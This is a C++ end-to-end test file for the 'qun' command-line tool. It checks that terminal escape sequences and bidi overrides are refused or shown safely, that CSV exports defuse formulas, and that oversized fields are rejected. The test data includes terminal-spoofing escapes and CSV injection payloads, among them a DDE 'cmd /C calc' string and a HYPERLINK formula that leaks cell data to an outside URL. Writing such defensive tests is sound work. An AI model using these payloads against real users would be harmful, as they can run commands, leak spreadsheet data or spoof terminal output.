// End-to-end tests of what text `qun` lets in and prints: control
// characters and bidi overrides are refused when typed and shown harmlessly
// when they arrive some other way (docs/security.md, "Text from others");
// CSV exports defuse formulas and imports restore them; big fields stop.
#include <doctest/doctest.h>
#include <sqlite3.h>
#include <sys/stat.h>

#include <nlohmann/json.hpp>
#include <string>
#include <string_view>
#include <vector>

#include "support/cli_runner.h"
#include "support/cli_steps.h"

using nlohmann::json;
using qun::testing::CliResult;
using qun::testing::Contains;
using qun::testing::Ok;
using qun::testing::OkJson;
using qun::testing::ReadFile;
using qun::testing::TempHome;

namespace {

// Clears the screen, sets the window title, rings the bell, returns to the
// line's start, reverses the text that follows, and a C1 CSI, then DEL.
const std::string kEvil =
    "Esc\x1b]0;PWNED\x07\x1b[2J\rRED\xE2\x80\xAE"
    "fake\xC2\x9B"
    "31m\x7F";

// The first byte or character of `out` that acts on a terminal, or "" when
// there is none. Line feeds and tabs are fine.
std::string FirstRawControl(std::string_view out) {
  for (size_t i = 0; i < out.size(); ++i) {
    const auto b = static_cast<unsigned char>(out[i]);
    if ((b < 0x20 && b != '\n' && b != '\t') || b == 0x7F)
      return "byte " + std::to_string(b) + " at " + std::to_string(i);
  }
  for (std::string_view seq : {"\xC2\x9B", "\xE2\x80\xAE", "\xE2\x80\x8F", "\xE2\x81\xA6"})
    if (Contains(out, seq)) return "a C1 or bidi control";
  return "";
}

void CheckPrintsNoControls(const CliResult& r) {
  CHECK_MESSAGE(FirstRawControl(r.out) == "", r.out);
  CHECK_MESSAGE(FirstRawControl(r.err) == "", r.err);
}

// Runs one statement on a node's database with text parameters, as if the
// data had arrived from elsewhere (another node, an older version).
void Exec(const TempHome& home, const std::string& sql, const std::vector<std::string>& params) {
  sqlite3* db = nullptr;
  REQUIRE(sqlite3_open_v2(home.InHome("community.db").c_str(), &db, SQLITE_OPEN_READWRITE,
                          nullptr) == SQLITE_OK);
  sqlite3_stmt* s = nullptr;
  REQUIRE_MESSAGE(sqlite3_prepare_v2(db, sql.c_str(), -1, &s, nullptr) == SQLITE_OK,
                  sqlite3_errmsg(db));
  for (size_t i = 0; i < params.size(); ++i)
    sqlite3_bind_text(s, static_cast<int>(i + 1), params[i].data(),
                      static_cast<int>(params[i].size()), SQLITE_TRANSIENT);
  CHECK(sqlite3_step(s) == SQLITE_DONE);
  sqlite3_finalize(s);
  sqlite3_close(db);
}

TEST_CASE("names with terminal controls or bidi overrides are refused when typed") {
  TempHome home;
  Ok(home, {"init", "--name", "测试社区", "--admin", "小林"});
  struct Case {
    std::string name, code;
  };
  for (const Case& c : {Case{"Esc\x1b]0;PWNED\x07", "U+001B"}, Case{"a\rSynced", "U+000D"},
                        Case{"bell\x07", "U+0007"},
                        Case{"abc\xE2\x80\xAE"
                             "gpj.exe",
                             "U+202E"}}) {
    CAPTURE(c.code);
    CliResult r = home.Qun({"member", "add", c.name, "--phone", "13800000001"});
    REQUIRE_EXIT(r, 2);
    CHECK(Contains(r.err, "the display name holds a "));
    CHECK(Contains(r.err, "(" + c.code + ")"));
    CHECK(Contains(r.err, "type it without it"));
    CheckPrintsNoControls(r);
  }
  // Notes may hold several lines, but not an escape.
  Ok(home, {"member", "add", "张伟", "--notes", "第一行\n第二行\t缩进"});
  CliResult notes = home.Qun({"member", "add", "李娜", "--notes", "ok\n\x1b[31mred"});
  REQUIRE_EXIT(notes, 2);
  CHECK(Contains(notes.err, "the notes holds a control character (U+001B)"));
  CHECK(Ok(home, {"--json", "member", "list"}).out.find("李娜") == std::string::npos);

  // The lowest role names its own node: refused before anything is made.
  TempHome viewer;
  CliResult join =
      viewer.Qun({"init", "--join", "--admin", "viewer\x1b[2K\r\x1b[32mSynced with alice"});
  REQUIRE_EXIT(join, 2);
  CHECK(Contains(join.err, "the node name holds a control character (U+001B)"));
  struct stat st;
  CHECK(stat(viewer.InHome("community.db").c_str(), &st) != 0);
}

TEST_CASE("text with controls that arrived from elsewhere prints without them") {
  TempHome home;
  Ok(home, {"init", "--name", "测试社区", "--admin", "小林"});
  Ok(home, {"member", "add", "张伟", "--phone", "13800000001", "--notes", "好人"});
  // As another node (or an older version) could have written them.
  Exec(home, "UPDATE person SET display_name=?1, notes=?1", {kEvil});
  Exec(home, "UPDATE node SET name=?1", {kEvil});
  Exec(home, "UPDATE op SET value=?1 WHERE tbl='person' AND col='display_name'", {kEvil});
  Exec(home, "UPDATE op_txn SET note=?1", {kEvil});

  for (const std::vector<std::string>& args :
       std::vector<std::vector<std::string>>{{"member", "list"},
                                             {"member", "show", "13800000001"},
                                             {"log"},
                                             {"admin", "list"},
                                             {"status"}}) {
    CAPTURE(args[0] + " " + args[1 % args.size()]);
    CliResult r = Ok(home, args);
    CheckPrintsNoControls(r);
  }
  // The name is still there to see, its controls shown as symbols.
  CHECK(Contains(Ok(home, {"member", "list"}).out, "Esc\u241B]0;PWNED\u2407"));
  CHECK(Contains(Ok(home, {"admin", "list"}).out, "Esc\u241B]0;PWNED"));
  CHECK(Contains(Ok(home, {"log"}).out, "\u241B[2J"));

  // JSON keeps the data exactly, escaped so that printing it acts on nothing.
  CliResult raw = Ok(home, {"--json", "member", "list"});
  CheckPrintsNoControls(raw);
  json people = json::parse(raw.out);
  REQUIRE(people.is_array());
  REQUIRE(people.size() == 1);
  CHECK(people[0]["display_name"] == kEvil);
  CHECK(people[0]["notes"] == kEvil);
}

TEST_CASE("an export defuses formulas and a re-import restores the values exactly") {
  TempHome a;
  Ok(a, {"init", "--name", "测试社区", "--admin", "小林"});
  const std::string hyperlink = "=HYPERLINK(\"http://x/?\"&A1,\"c\")";
  const std::string dde = "+cmd|' /C calc'!A0";
  Ok(a, {"member", "add", hyperlink, "--nickname", dde, "--notes", "@SUM(1+1)", "--city=-2+3",
         "--intro=\t=tab", "--phone", "+8613800000001"});
  Ok(a, {"member", "add", "'=quoted", "--nickname", "''", "--notes", "O'Brien", "--wechat",
         "plain_one"});
  std::string sheet = Ok(a, {"export", "members"}).out;
  CHECK(Contains(sheet, "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"c\"\")\""));
  CHECK(Contains(sheet, ",'+cmd|' /C calc'!A0,"));
  CHECK(Contains(sheet, ",'+8613800000001,"));
  CHECK(Contains(sheet, ",'-2+3,"));
  CHECK(Contains(sheet, ",'\t=tab,"));
  CHECK(Contains(sheet, ",'@SUM(1+1)"));
  CHECK(Contains(sheet, ",''=quoted,'''"));
  CHECK(Contains(sheet, ",O'Brien"));
  // No cell of the sheet starts a formula.
  for (std::string_view start : {",=", ",+", ",-", ",@", ",\t", "\n=", "\n+", "\n-", "\n@"})
    CHECK_MESSAGE(!Contains(sheet, start), start);

  TempHome b;
  Ok(b, {"init", "--name", "另一个社区", "--admin", "李娜"});
  Ok(b, {"import", "members", a.Write("members.csv", sheet)});
  json before = OkJson(a, {"member", "list"});
  json after = OkJson(b, {"member", "list"});
  REQUIRE(after.size() == 2);
  for (size_t i = 0; i < before.size(); ++i)
    for (const char* field :
         {"id", "display_name", "nickname", "city", "intro", "notes", "handles"}) {
      CAPTURE(field);
      CHECK(before[i][field] == after[i][field]);
    }
}

TEST_CASE("fields beyond their size limit are refused with the field, its size and the limit") {
  TempHome home;
  Ok(home, {"init", "--name", "测试社区", "--admin", "小林"});
  CliResult name = home.Qun({"member", "add", std::string(600, 'a')});
  REQUIRE_EXIT(name, 2);
  CHECK(Contains(name.err,
                 "the display name is 600 characters long, more than the 64 a display name may "
                 "hold; shorten it"));
  // In Chinese, with the same figures; and nothing written.
  CliResult zh = home.Qun({"--lang", "zh", "member", "add", std::string(900, 'a')});
  REQUIRE_EXIT(zh, 2);
  CHECK(Contains(zh.err, "900 个字"));
  CHECK(Contains(zh.err, "64 个字"));

  // A CSV cell beyond 1 MiB stops the import at its line, before the rest
  // of the file is read into memory.
  std::string sheet = "display_name,notes\n张伟,ok\n李娜,\"" + std::string(3 << 20, 'x') + "\"\n";
  CliResult big = home.Qun({"import", "members", home.Write("big.csv", sheet)});
  REQUIRE_EXIT(big, 2);
  CHECK(Contains(big.err, "line 3: field 2 is longer than 1 MiB"));
  CHECK(OkJson(home, {"member", "list"}).empty());
  // Within the cell limit but beyond the field's: that row is rejected.
  std::string notes = "display_name,notes\n李娜," + std::string(20 << 10, 'y') + "\n";
  CliResult row = home.Qun({"import", "members", home.Write("notes.csv", notes)});
  CHECK(row.exit_code != 0);
  CHECK(Contains(row.out + row.err, "the notes is 20.0 KiB, more than the 16 KiB"));
}

}  // namespace
